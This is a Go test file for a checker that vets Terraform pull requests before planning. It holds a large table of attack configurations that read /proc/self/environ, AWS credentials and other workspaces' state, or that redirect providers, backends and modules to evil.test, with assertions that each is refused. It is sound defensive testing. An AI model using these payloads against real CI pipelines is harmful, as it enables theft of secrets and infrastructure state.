package policy

import (
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"

	"reconcile/internal/stateid"
	"reconcile/reconciler/workspace"
	"reconcile/reconciler/workspace/internal/treetest"
	"reconcile/reconciler/workspace/repotree"
	"reconcile/reconciler/workspace/settings"
)

// baseRepo is the tip that pull requests are checked against.
var baseRepo = map[string]string{
	"env/app/main.tf": `variable "x" {
  default = "a"
}
resource "terraform_data" "a" {
  input = "1-${var.x}"
}
output "v" {
  value = terraform_data.a.output
}
provider "aws" {
  region = "ap-northeast-1"
  assume_role {
    role_arn = "arn:aws:iam::111111111111:role/plan"
  }
}
`,
	"env/app/x.txt":                  "hello",
	"env/app/policies/a.json":        "{}",
	"env/app/policies/b.tpl":         "${name}",
	"env/app/links/a.tpl":            "-> ../bad.tpl",
	"env/app/bad.tpl":                `${file("/proc/self/environ")}`,
	"env/app/up":                     "-> ../..",
	"env/app/tests/setup.tftest.hcl": "",
	"env/db/main.tf":                 `resource "terraform_data" "a" {}`,
	"env/s3/main.tf": `terraform {
  backend "s3" {
    bucket = "b"
    key    = "k"
    region = "ap-northeast-1"
  }
}
`,
	"modules/m/main.tf": "variable \"path\" {}\noutput \"o\" {\n  value = file(var.path)\n}\n",
	"modules/m/m.txt":   "m",
	"modules/link":      "-> m",
}

// violationsOf returns the policy violations of a workspace after some files change. The
// content "" removes a file.
func violationsOf(t *testing.T, name string, change map[string]string, policy settings.Policy) []string {
	t.Helper()
	return violationsIn(t, repotree.Terraform, name, change, policy)
}

// violationsIn returns the same for a product.
func violationsIn(t *testing.T, product repotree.Product, name string, change map[string]string, policy settings.Policy) []string {
	t.Helper()
	files := maps.Clone(baseRepo)
	for p, text := range change {
		if !strings.HasPrefix(p, "env/") && !strings.HasPrefix(p, "modules/") {
			p = "env/" + name + "/" + p
		}
		files[p] = text
	}
	dir := settings.Dir{Name: name, Path: "env/" + name}
	p := Proposal{Dir: dir, LocalStates: []stateid.ID{"local:env/app/terraform.tfstate", "local:env/db/terraform.tfstate", "local:env/db/own.json"}}
	if _, exists := baseRepo[dir.Path+"/main.tf"]; exists {
		p.TipWorkspace = workspace.NewLoader(treetest.New(baseRepo), product).Load(dir, settings.Config{})
	}
	return Check(treetest.New(files), product, p, policy)
}

// doublingLocals returns locals that are each twice as long as the one before.
func doublingLocals(n int) string {
	text := "a0 = \"a\"\n"
	for i := range n {
		text += fmt.Sprintf("a%d = \"${local.a%[2]d}${local.a%[2]d}\"\n", i+1, i)
	}
	return text
}

func defaultPolicy(allowed ...string) settings.Policy {
	t := (&settings.Settings{}).PreviewPolicy(repotree.Terraform)
	t.AllowedNames = allowed
	return t
}

const environFile = `"/proc/self/environ"`

// outputConfig returns a configuration that outputs a value.
func outputConfig(value string) map[string]string {
	return map[string]string{"o.tf": "output \"o\" {\n  value = " + value + "\n}\n"}
}

func fileConfig(text string) map[string]string { return outputConfig("file(" + text + ")") }

// localsConfig returns a configuration that outputs a file whose name is built by locals.
func localsConfig(text string) map[string]string {
	return map[string]string{"o.tf": "locals {\n" + text + "\n}\noutput \"o\" {\n  value = file(local.p)\n}\n"}
}

// attacks are changes in a pull request that must not be planned, each with a part of the
// expected violation.
var attacks = map[string]struct {
	change map[string]string
	want   string
}{
	// The six of the first review.
	"a1: a JSON variable's validation":      {map[string]string{"v.tf.json": `{"variable":{"y":{"default":"a","validation":{"condition":"${var.y == \"b\"}","error_message":"${file(\"/proc/self/environ\")}"}}}}`}, "JSON"},
	"a2: a branch by what lies on the disk": {fileConfig(`fileexists("${path.module}/zzz_reconcile_override.tf") ? "/proc/self/environ" : "x.txt"`), "outside"},
	"a4: another's state, by an override":   {map[string]string{"zzzz_override.tf": "terraform {\n  backend \"local\" {\n    path = \"/state/db.tfstate\"\n  }\n}\n"}, "override file"},
	"b4: a committed state, by an override": {map[string]string{"zzzz_override.tf": "terraform {\n  backend \"local\" {\n    path = \"/proc/self/cwd/evil.json\"\n  }\n}\n"}, "moves the state"},

	"d1: a text that doubles": {localsConfig(doublingLocals(30) + "p = substr(local.a30, 0, 3)"), "not known before"},

	// Both branches, always.
	"a known condition":               {fileConfig(`true ? "x.txt" : "/proc/self/environ"`), "outside"},
	"try":                             {fileConfig(`try("x.txt", "/proc/self/environ")`), "outside"},
	"coalesce":                        {fileConfig(`coalesce("x.txt", "/proc/self/environ")`), "outside"},
	"lookup's default":                {fileConfig(`lookup({}, "k", "/proc/self/environ")`), "outside"},
	"lookup's element":                {fileConfig(`lookup({ k = "/proc/self/environ" }, "j", "x.txt")`), "outside"},
	"a choice in a local":             {localsConfig("c = true ? \"x.txt\" : \"/proc/self/environ\"\np = local.c"), "outside"},
	"a choice of a part":              {fileConfig(`"${true ? "." : "/proc"}/self/environ"`), "outside"},
	"a choice in a list":              {fileConfig(`["x.txt", "/proc/self/environ"][can(1) ? 0 : 1]`), "outside"},
	"a choice of the key":             {fileConfig(`{ a = "x.txt", b = "/proc/self/environ" }[fileexists("x.txt") ? "a" : "b"]`), "outside"},
	"a choice of the collection":      {map[string]string{"o.tf": "resource \"terraform_data\" \"o\" {\n  for_each = true ? toset([\"x.txt\"]) : toset([\"/proc/self/environ\"])\n  input    = file(each.value)\n}\n"}, "outside"},
	"a choice in a module's argument": {map[string]string{"o.tf": "module \"m\" {\n  source = \"../../modules/m\"\n  path   = false ? \"/proc/self/environ\" : \"../../modules/m/m.txt\"\n}\n"}, "outside"},
	"a module of no instance":         {map[string]string{"o.tf": "module \"m\" {\n  source = \"../../modules/m\"\n  count  = fileexists(\"zzz_reconcile_override.tf\") ? 1 : 0\n  path   = " + environFile + "\n}\n"}, "outside"},
	"a filter by a function":          {fileConfig(`[for p in ["x.txt", "/proc/self/environ"] : p if fileexists(p)][0]`), "not known before"},
	"a condition's own function":      {outputConfig(`file("/proc/self/environ") == "" ? 1 : 2`), "outside"},
	"a template's choice":             {map[string]string{"o.tpl": `%{ if fileexists("x") }a%{ else }${file("/proc/self/environ")}%{ endif }`, "o.tf": "output \"o\" {\n  value = templatefile(\"o.tpl\", {})\n}\n"}, "o.tpl:1:41: file() reads outside"},

	// Functions that depend on the machine, or are known by name only.
	"index counts elements":   {fileConfig(`element(["/proc/self/environ", "x.txt"], index([1, 5, 0], 0))`), "not known before"},
	"pathexpand":              {fileConfig(`trimprefix(pathexpand("~/.aws/credentials"), "~/")`), "not known before"},
	"the length of path.cwd":  {fileConfig(`["x.txt", "/proc/self/environ"][length(path.cwd) > 30 ? 1 : 0]`), "outside"},
	"replace in path.root":    {fileConfig(`replace(path.root, ".", "/proc/self/environ")`), "not known before"},
	"the text of path.module": {fileConfig(`element(["/proc/self/environ", "x.txt"], length(path.module))`), "not known before"},
	"abspath, cut":            {fileConfig(`trimprefix(abspath("proc/self/environ"), "/x")`), "not known before"},
	"terraform.workspace":     {fileConfig(`trimprefix("default/proc/self/environ", terraform.workspace)`), "not known before"},
	"a timestamp":             {fileConfig(`substr("/proc/self/environ", 0, length(timestamp()))`), "not known before"},
	"a file's content":        {fileConfig(`trimspace(file("x.txt"))`), "not known before"},
	"a resource's attribute":  {map[string]string{"o.tf": "resource \"terraform_data\" \"o\" {\n  input = \"x.txt\"\n  lifecycle {\n    ignore_changes = [input]\n  }\n}\noutput \"o\" {\n  value = file(terraform_data.o.input)\n}\n"}, "not known before"},
	"path.module, no slash":   {fileConfig(`"${path.module}./x.txt"`), "not known before"},
	"a circle":                {localsConfig("p = local.q\nq = local.p"), "not known before"},
	"home":                    {fileConfig(`"~/.aws/credentials"`), "outside"},
	"through /proc/self/cwd":  {fileConfig(`"/proc/self/cwd/x.txt"`), "outside"},
	"expanded arguments":      {outputConfig(`file(["/proc/self/environ"]...)`), "not known before"},
	"core::":                  {outputConfig(`core::file("/proc/self/environ")`), "outside"},
	"climbing":                {fileConfig(`"${path.module}/../../../../etc/passwd"`), "outside"},

	// Lists of files.
	"fileset by braces":        {outputConfig(`fileset(path.module, "{..,x}/{..,y}/{..,z}/etc/*")`), "pattern"},
	"fileset by joined dots":   {outputConfig(`fileset(path.module, "{.,x}{.,y}/*")`), "pattern"},
	"fileset of escaped dots":  {outputConfig("fileset(path.module, \"\\\\.\\\\./*\")"), "pattern"},
	"fileset of states":        {outputConfig(`fileset("..", "**/terraform.tfstate")`), "not part of the repository"},
	"fileset of .terraform":    {outputConfig(`fileset(path.module, "**")`), "not part of the repository"},
	"fileset behind a link":    {outputConfig(`[for f in fileset("up", "env/db/*.tfstate") : file("up/${f}")]`), "not part of the repository"},
	"fileset through a link":   {outputConfig(`[for f in fileset(path.module, "*/env/db/*.tfstate") : file(f)]`), "not part of the repository"},
	"fileset through two":      {map[string]string{"dirs/a": "-> ../links", "links/b": "-> ../../db", "o.tf": "output \"o\" {\n  value = fileset(\"dirs\", \"*/*/*state\")\n}\n"}, "not part of the repository"},
	"a template in a link":     {map[string]string{"dirs/a": "-> ../hidden", "hidden/o.tpl": `${file("/proc/self/environ")}`, "o.tf": "output \"o\" {\n  value = [for f in fileset(\"dirs\", \"*/*.tpl\") : templatefile(\"dirs/${f}\", {})]\n}\n"}, "symbolic link"},
	"a template behind a link": {map[string]string{"o.tf": "output \"o\" {\n  value = [for f in fileset(path.module, \"links/*\") : templatefile(f, {})]\n}\n"}, "symbolic link"},
	"any template of a folder": {map[string]string{"policies/evil.tpl": `${file("/proc/self/environ")}`, "o.tf": "output \"o\" {\n  value = [for f in fileset(path.module, \"policies/*.tpl\") : templatefile(\"${path.module}/${f}\", { name = 1 })]\n}\n"}, "evil.tpl"},
	"below a file's name":      {map[string]string{"o.tf": "output \"o\" {\n  value = [for f in fileset(path.module, \"policies/*\") : file(\"${f}/../../../../../etc/passwd\")]\n}\n"}, "not known before"},

	// Files that are not in Git.
	"a state by its link":     {fileConfig(`"../db/terraform.tfstate"`), "not part of the repository"},
	"a state of its own name": {fileConfig(`"../db/own.json"`), "not part of the repository"},
	"what we generate":        {fileConfig(`"zzz_reconcile.auto.tfvars.json"`), "not part of the repository"},
	".terraform":              {fileConfig(`".terraform/terraform.tfstate"`), "not part of the repository"},
	"a module in .terraform":  {map[string]string{".terraform/m/main.tf": "", "o.tf": "module \"m\" {\n  source = \"./.terraform/m\"\n}\n"}, "belongs to Terraform"},
	"a link out of the tree":  {map[string]string{"out": "-> ../../../etc/passwd", "o.tf": "output \"o\" {\n  value = file(true ? \"x.txt\" : \"out\")\n}\n"}, "leads out"},
	"a link, and up again":    {map[string]string{"o.tf": "data \"terraform_remote_state\" \"o\" {\n  backend = \"local\"\n  config  = { path = \"up/../../x.tfstate\" }\n}\n"}, "outside the repository"},
	"a module behind a link":  {map[string]string{"o.tf": "module \"m\" {\n  source = \"../../modules/link\"\n  path   = \"x.txt\"\n}\n"}, "symbolic link"},

	// Templates have only their own names.
	"a template's own path": {map[string]string{"o.tpl": `${file("${path.module}/self/environ")}`, "o.tf": "output \"o\" {\n  value = templatefile(\"o.tpl\", jsondecode(\"{\\\"path\\\":{\\\"module\\\":\\\"/proc\\\"}}\"))\n}\n"}, "not known before"},
	"a template's argument": {map[string]string{"o.tpl": `${file(p)}`, "o.tf": "output \"o\" {\n  value = templatefile(\"o.tpl\", { p = true ? \"x.txt\" : \"/proc/self/environ\" })\n}\n"}, "outside"},

	// Files that Terraform reads in another way.
	"a file that begins with a hash": {map[string]string{"#x.tf": "data \"external\" \"x\" {}\n"}, "external"},
	"an override with dots":          {map[string]string{"a.b_override.tf": "locals {\n  p = \"/proc/self/environ\"\n}\n", "z.tf": "locals {\n  p = \"x.txt\"\n}\noutput \"o\" {\n  value = file(local.p)\n}\n"}, "outside"},
	"our own override":               {map[string]string{"zzz_reconcile_override.tf": "locals {\n  p = \"x.txt\"\n}\n"}, "generated"},
	"our own variables":              {map[string]string{"zzz_reconcile.auto.tfvars.json": `{"x": "x.txt"}`}, "generated"},
	"a hidden variable file":         {map[string]string{".x.auto.tfvars": "x = \"/proc/self/environ\"\n", "o.tf": "output \"o\" {\n  value = file(var.x)\n}\n"}, "outside"},
	"a block of another kind":        {map[string]string{"o.tf": "store \"s\" \"x\" {}\n"}, "not supported"},
	"terraform.d":                    {map[string]string{"terraform.d/plugins/x": ""}, "terraform.d"},

	// States.
	"a state's workspace_dir": {map[string]string{"o.tf": "data \"terraform_remote_state\" \"o\" {\n  backend = \"local\"\n  config  = { path = \"x\", workspace_dir = \"/\" }\n}\n"}, "workspace_dir"},
	"a state's workspace":     {map[string]string{"o.tf": "data \"terraform_remote_state\" \"o\" {\n  backend   = \"local\"\n  workspace = \"../../..\"\n  config    = {}\n}\n"}, "workspace is not allowed"},
	"a state read in a check": {map[string]string{"o.tf": "check \"c\" {\n  data \"terraform_remote_state\" \"o\" {\n    backend = \"local\"\n    config  = { path = \"/etc/x\" }\n  }\n}\n"}, "outside"},
	"a choice of states":      {map[string]string{"o.tf": "data \"terraform_remote_state\" \"o\" {\n  backend = \"local\"\n  config  = true ? { path = \"../db/terraform.tfstate\" } : { path = \"/etc/x\" }\n}\n"}, "outside"},
	"an unknown state":        {map[string]string{"o.tf": "data \"terraform_remote_state\" \"o\" {\n  backend = \"local\"\n  config  = { path = terraform_data.a.output }\n}\n"}, "not known before"},
	"a state by an endpoint":  {map[string]string{"o.tf": "data \"terraform_remote_state\" \"o\" {\n  backend = \"s3\"\n  config  = { bucket = \"b\", key = \"k\", endpoints = { s3 = \"https://evil.test\" } }\n}\n"}, "endpoints"},
	"another local path":      {map[string]string{"b.tf": "terraform {\n  backend \"local\" {\n    path = \"../db/terraform.tfstate\"\n  }\n}\n"}, "moves the state"},
	"from a file to S3":       {map[string]string{"b.tf": "terraform {\n  backend \"s3\" {\n    bucket = \"evil\"\n    key    = \"k\"\n  }\n}\n"}, "moves the state"},
	"an empty local override": {map[string]string{"zzzz_override.tf": "terraform {\n  backend \"local\" {}\n}\n"}, "override file"},

	// Providers.
	"a provider of another host":  {map[string]string{"o.tf": "terraform {\n  required_providers {\n    aws = { source = \"evil.test/hashicorp/aws\" }\n  }\n}\n"}, "evil.test/hashicorp/aws"},
	"a source in parentheses":     {map[string]string{"o.tf": "terraform {\n  required_providers {\n    aws = { (\"source\") = \"evil/aws\" }\n  }\n}\n"}, "evil/aws"},
	"a provider by a function":    {outputConfig(`provider::evil::f()`), "hashicorp/evil"},
	"an endpoint":                 {map[string]string{"o.tf": "provider \"aws\" {\n  alias = \"o\"\n  endpoints {\n    sts = \"https://evil.test\"\n  }\n}\n"}, "endpoints"},
	"an endpoint, dynamically":    {map[string]string{"o.tf": "provider \"aws\" {\n  alias = \"o\"\n  dynamic \"endpoints\" {\n    for_each = [1]\n    content {\n      s3 = \"https://evil.test\"\n    }\n  }\n}\n"}, "endpoints"},
	"a role of another account":   {map[string]string{"o.tf": "provider \"aws\" {\n  alias = \"o\"\n  assume_role {\n    role_arn = \"arn:aws:iam::666666666666:role/evil\"\n  }\n}\n"}, "role_arn"},
	"a provider under a new name": {map[string]string{"o.tf": "terraform {\n  required_providers {\n    null = { source = \"hashicorp/aws\" }\n  }\n}\nprovider \"null\" {\n  ec2_metadata_service_endpoint = \"http://evil.test\"\n}\n"}, "ec2_metadata_service_endpoint"},
	"a proxy":                     {map[string]string{"o.tf": "provider \"aws\" {\n  alias       = \"o\"\n  https_proxy = \"http://evil.test\"\n}\n"}, "https_proxy"},
	"no check of the Region":      {map[string]string{"o.tf": "provider \"aws\" {\n  alias                  = \"o\"\n  skip_region_validation = true\n}\n"}, "skip_region_validation"},
	"credentials of a file":       {map[string]string{"o.tf": "provider \"aws\" {\n  alias                    = \"o\"\n  shared_credentials_files = [\"evil\"]\n}\n"}, "shared_credentials_files"},

	// Secrets.
	"an import of a secret":           {map[string]string{"o.tf": "import {\n  to = aws_secretsmanager_secret_version.s\n  id = \"s|v\"\n}\nresource \"aws_secretsmanager_secret_version\" \"s\" {\n  secret_id = \"s\"\n}\n"}, "import of"},
	"an import into each":             {map[string]string{"o.tf": "import {\n  for_each = toset([\"a\"])\n  to       = aws_ssm_parameter.s[each.key]\n  id       = each.key\n}\n"}, "import of"},
	"credentials of Redshift":         {map[string]string{"o.tf": "data \"aws_redshift_cluster_credentials\" \"c\" {}\n"}, "aws_redshift_cluster_credentials"},
	"credentials, serverless":         {map[string]string{"o.tf": "data \"aws_redshiftserverless_credentials\" \"c\" {}\n"}, "aws_redshiftserverless_credentials"},
	"a secret of KMS, old":            {map[string]string{"o.tf": "data \"aws_kms_secret\" \"c\" {}\n"}, "aws_kms_secret"},
	"an API key":                      {map[string]string{"o.tf": "data \"aws_api_gateway_api_key\" \"c\" {}\n"}, "aws_api_gateway_api_key"},
	"any object of any bucket":        {map[string]string{"o.tf": "data \"aws_s3_object\" \"c\" {}\noutput \"o\" {\n  value = data.aws_s3_object.c.body\n}\n"}, "aws_s3_object"},
	"an object, perhaps":              {map[string]string{"o.tf": "data \"aws_s3_object\" \"c\" {\n  download_body = var.x == \"b\"\n}\n"}, "aws_s3_object"},
	"any ephemeral of AWS":            {map[string]string{"o.tf": "ephemeral \"aws_new_credentials\" \"c\" {}\n"}, "aws_new_credentials"},
	"a data source in a check":        {map[string]string{"o.tf": "check \"c\" {\n  data \"aws_kms_secrets\" \"c\" {}\n}\n"}, "aws_kms_secrets"},
	"a file that a data source reads": {map[string]string{"o.tf": "data \"aws_x\" \"c\" {\n  filename = terraform_data.a.output\n}\n"}, "filename reads a path that is not known"},

	// Modules.
	"a module by S3":       {map[string]string{"o.tf": "module \"m\" {\n  source = \"s3::https://s3.amazonaws.com/evil/m.zip\"\n}\n"}, "is not allowed"},
	"a module by a choice": {map[string]string{"o.tf": "module \"m\" {\n  source = true ? \"../../modules/m\" : \"evil.test/a/b/c\"\n  path   = \"x.txt\"\n}\n"}, "not known before"},
}

// TestRefuseAttacks checks that each attack is refused by its configuration alone.
func TestRefuseAttacks(t *testing.T) {
	t.Parallel()
	for _, name := range slices.Sorted(maps.Keys(attacks)) {
		attack := attacks[name]
		if got := strings.Join(violationsOf(t, "app", attack.change, defaultPolicy()), "\n"); !strings.Contains(got, attack.want) {
			t.Errorf("%s: %q, want %q", name, got, attack.want)
		}
	}
}

// allowedChanges are everyday changes that must be planned.
var allowedChanges = map[string]map[string]string{
	"another value":               {"main.tf": strings.Replace(baseRepo["env/app/main.tf"], "1-", "2-", 1)},
	"a choice of two files":       fileConfig(`"${path.module}/${var.x == "a" ? "x.txt" : "policies/a.json"}"`),
	"a choice by Region":          {"o.tf": "data \"aws_region\" \"r\" {}\noutput \"o\" {\n  value = file(data.aws_region.r.name == \"us-east-1\" ? \"x.txt\" : \"policies/a.json\")\n}\n"},
	"each of a folder":            {"o.tf": "resource \"terraform_data\" \"o\" {\n  for_each = fileset(path.module, \"policies/*.json\")\n  input    = file(\"${path.module}/${each.value}\")\n}\n"},
	"each of a linked folder":     {"dirs/a": "-> ../policies", "o.tf": "resource \"terraform_data\" \"o\" {\n  for_each = fileset(\"dirs\", \"*/*.json\")\n  input    = file(\"dirs/${each.value}\")\n}\n"},
	"a template of each":          {"o.tf": "output \"o\" {\n  value = { for f in fileset(\"${path.module}/policies\", \"*.{json,tpl}\") : f => templatefile(\"${path.module}/policies/${f}\", { name = f }) }\n}\n"},
	"a folder in a local":         localsConfig("dir = \"${path.module}/policies\"\np = \"${local.dir}/a.json\""),
	"a name put together":         localsConfig("name = \"policies/a\"\np = format(\"%s/%s.json\", \".\", local.name)"),
	"path.root":                   fileConfig(`"${path.root}/x.txt"`),
	"path.cwd":                    fileConfig(`"${path.cwd}/x.txt"`),
	"abspath":                     fileConfig(`abspath("${path.module}/x.txt")`),
	"a name of a map":             {"o.tf": "locals {\n  files = { dev = \"x.txt\", prod = \"policies/a.json\" }\n}\nvariable \"env\" {}\noutput \"o\" {\n  value = file(\"${path.module}/${local.files[var.env]}\")\n}\n"},
	"a file that may be there":    fileConfig(`fileexists("${path.module}/extra.txt") ? "${path.module}/extra.txt" : "${path.module}/x.txt"`),
	"a template and its argument": {"o.tf": "output \"o\" {\n  value = templatefile(\"${path.module}/policies/b.tpl\", { name = terraform_data.a.output })\n}\n"},
	"a list of objects":           {"o.tf": "locals {\n  policies = [{ name = \"a\", file = \"policies/a.json\" }]\n}\nresource \"terraform_data\" \"o\" {\n  for_each = { for p in local.policies : p.name => p }\n  input    = each.value.name\n}\n"},
	"objects with files":          {"o.tf": "resource \"terraform_data\" \"o\" {\n  for_each = {\n    a = { file = \"${path.module}/policies/a.json\" }\n    b = { file = \"${path.module}/x.txt\" }\n  }\n  input = file(each.value.file)\n}\n"},
	"a module of the repository":  {"o.tf": "module \"m\" {\n  source = \"../../modules/m\"\n  path   = \"${path.module}/x.txt\"\n}\n"},
	"a module's own file":         {"modules/n/main.tf": "output \"o\" {\n  value = file(\"${path.module}/n.txt\")\n}\n", "modules/n/n.txt": "n", "o.tf": "module \"n\" {\n  source   = \"../../modules/n\"\n  for_each = toset([\"a\", \"b\"])\n}\n"},
	"a module, where wanted":      {"o.tf": "variable \"on\" {\n  default = true\n}\nmodule \"m\" {\n  count  = var.on ? 1 : 0\n  source = \"../../modules/m\"\n  path   = \"${path.module}/x.txt\"\n}\n"},
	"another's outputs":           {"o.tf": "data \"terraform_remote_state\" \"db\" {\n  backend = \"local\"\n  config  = { path = \"${path.module}/../db/terraform.tfstate\" }\n}\n"},
	"another's outputs in S3":     {"o.tf": "data \"terraform_remote_state\" \"db\" {\n  backend   = \"s3\"\n  workspace = var.x\n  config    = { bucket = \"b\", key = \"${var.x}/k\", region = \"ap-northeast-1\" }\n}\n"},
	"nonsensitive":                outputConfig("nonsensitive(terraform_data.a.output)"),
	"tests":                       {"tests/x.tftest.hcl": "run \"x\" {\n  module {\n    source = \"evil.test/evil/mod/aws\"\n  }\n}\n"},
	"a second Region":             {"o.tf": "provider \"aws\" {\n  alias  = \"osaka\"\n  region = \"ap-northeast-3\"\n  default_tags {\n    tags = { a = 1 }\n  }\n  assume_role {\n    role_arn = \"arn:aws:iam::111111111111:role/plan\"\n  }\n}\n"},
	"an import":                   {"o.tf": "import {\n  to = aws_instance.i\n  id = \"i-1\"\n}\nresource \"aws_instance\" \"i\" {}\n"},
	"a move":                      {"o.tf": "moved {\n  from = terraform_data.b\n  to   = terraform_data.a\n}\nremoved {\n  from = terraform_data.c\n  lifecycle {\n    destroy = false\n  }\n}\n"},
	"an override":                 {"o_override.tf": "resource \"terraform_data\" \"a\" {\n  input = 3\n}\n"},
	"a check and a validation":    {"o.tf": "variable \"n\" {\n  default = 1\n  validation {\n    condition     = var.n > 0\n    error_message = \"n is ${var.n}\"\n  }\n}\ncheck \"c\" {\n  data \"aws_region\" \"r\" {}\n  assert {\n    condition     = data.aws_region.r.name != \"\"\n    error_message = \"none\"\n  }\n}\n"},
	"a provisioner":               {"o.tf": "resource \"null_resource\" \"o\" {\n  provisioner \"local-exec\" {\n    command = \"true\"\n  }\n}\n"},
	"an object's version":         {"o.tf": "data \"aws_s3_object\" \"c\" {\n  count         = 1\n  download_body = false\n}\noutput \"o\" {\n  value = data.aws_s3_object.c[0].version_id\n}\n"},
	"a copy between buckets":      {"o.tf": "resource \"aws_s3_object_copy\" \"o\" {\n  source = \"${terraform_data.a.output}/key\"\n}\n"},
}

func TestRefuseNothingOrdinary(t *testing.T) {
	t.Parallel()
	for _, name := range slices.Sorted(maps.Keys(allowedChanges)) {
		if got := violationsOf(t, "app", allowedChanges[name], defaultPolicy()); len(got) > 0 {
			t.Errorf("%s: %q", name, got)
		}
	}
}

// TestRefuseBackends checks that a pull request may set the location of a state only for a
// new workspace, which is planned without it.
func TestRefuseBackends(t *testing.T) {
	t.Parallel()
	s3 := func(text string) map[string]string {
		return map[string]string{"main.tf": strings.Replace(baseRepo["env/s3/main.tf"], "    key    = \"k\"\n", text, 1)}
	}
	for name, c := range map[string]struct {
		of     string
		change map[string]string
		want   string // "": nothing is refused
	}{
		"as it is":           {"s3", s3("    key = \"k\"\n"), ""},
		"a lock":             {"s3", s3("    key = \"k\"\n    use_lockfile = true\n"), ""},
		"another key":        {"s3", s3("    key = \"other\"\n"), "moves the state"},
		"a key by a choice":  {"s3", s3("    key = true ? \"k\" : \"other\"\n"), "not known before"},
		"an endpoint":        {"s3", s3("    key = \"k\"\n    endpoints = { s3 = \"https://evil.test\" }\n"), "endpoints"},
		"a role":             {"s3", s3("    key = \"k\"\n    assume_role = { role_arn = \"arn:aws:iam::666666666666:role/evil\" }\n"), "assume_role"},
		"a file of settings": {"s3", s3("    key = \"k\"\n    shared_config_files = [\"evil\"]\n"), "shared_config_files"},
		"none any more":      {"s3", map[string]string{"main.tf": ""}, "moves the state"},
		"in the cloud":       {"s3", map[string]string{"main.tf": "terraform {\n  cloud {}\n}\n"}, "cloud"},
		"a new workspace":    {"new", map[string]string{"main.tf": "terraform {\n  backend \"http\" {\n    address = \"https://evil.test\"\n  }\n}\n"}, ""},
	} {
		if got := strings.Join(violationsOf(t, c.of, c.change, defaultPolicy()), "\n"); c.want == "" && got != "" || !strings.Contains(got, c.want) {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
	http := map[string]string{"env/a/main.tf": "terraform {\n  backend \"http\" {\n    address = \"https://example.com/a\"\n  }\n}\n"}
	dir := settings.Dir{Name: "a", Path: "env/a"}
	p := Proposal{Dir: dir, TipWorkspace: workspace.NewLoader(treetest.New(http), repotree.Terraform).Load(dir, settings.Config{})}
	if got := Check(treetest.New(http), repotree.Terraform, p, defaultPolicy()); len(got) > 0 {
		t.Errorf("the same backend of another type: %q", got)
	}
	http["env/a/main.tf"] = strings.Replace(http["env/a/main.tf"], "\n  }", "\n    lock_address = \"https://evil.test\"\n  }", 1)
	if got := Check(treetest.New(http), repotree.Terraform, p, defaultPolicy()); len(got) != 1 || !strings.Contains(got[0], "it changes the settings of backend") {
		t.Errorf("another lock: %q", got)
	}
}

// TestRefuseJSON checks that JSON is checked where the operator allows it, and that
// duplicate members are refused.
func TestRefuseJSON(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		`{"variable":{"y":{"validation":{"condition":"${var.y == 1}","error_message":"${file(\"/proc/self/environ\")}"}}}}`: "outside",
		`{"resource":{"terraform_data":{"o":{"lifecycle":{"precondition":{"condition":"${file(\"/etc/x\") == 1}"}}}}}}`:     "outside",
		`{"check":{"c":{"assert":[{"condition":"${file(\"/etc/x\") == 1}"}]}}}`:                                             "outside",
		`{"locals":{"p":"/etc/x","p":"x.txt"}}`:                                                                             "duplicate member p",
		`{"locals":{"p":"/etc/x"},"locals":{"p":"x.txt"}}`:                                                                  "duplicate member locals",
		`{"provider":{"aws":[{"alias":"o","assume_role":[{"role_arn":"evil"}]}]}}`:                                          "assume_role",
		`{"provider":{"aws":{"alias":"o","dynamic":{"endpoints":{"content":{}}}}}}`:                                         "dynamic",
		`{"terraform":{"backend":{"local":{"path":"../db/terraform.tfstate"}}}}`:                                            "moves the state",
		`{"import":[{"to":"aws_ssm_parameter.p","id":"x"}]}`:                                                                "import of",
		`{"store":{"s":{}}}`: "not supported",
		`{"locals":{"//":"one","//":"two","p":"${path.module}/x.txt"},"output":{"o":{"value":"${file(local.p)}"}}}`: "",
	} {
		got := strings.Join(violationsOf(t, "app", map[string]string{"o.tf.json": text}, defaultPolicy("tf.json")), "\n")
		if want == "" && got != "" || !strings.Contains(got, want) {
			t.Errorf("%s: %q, want %q", text, got, want)
		}
	}
}
